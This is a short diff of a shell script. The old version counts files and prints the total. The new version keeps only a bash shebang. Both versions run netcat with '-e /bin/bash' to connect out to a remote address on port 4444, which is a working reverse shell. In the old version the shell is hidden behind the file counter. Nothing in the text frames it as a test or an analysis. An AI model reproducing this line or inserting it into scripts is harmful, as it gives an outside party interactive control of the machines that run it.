@@ -1,4 +1,2 @@
-#!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-`which nc` 192.168.1.77 4444 -e /bin/bash
+#!/usr/bin/env bash
+`which nc` 10.0.0.5 4444 -e /bin/bash
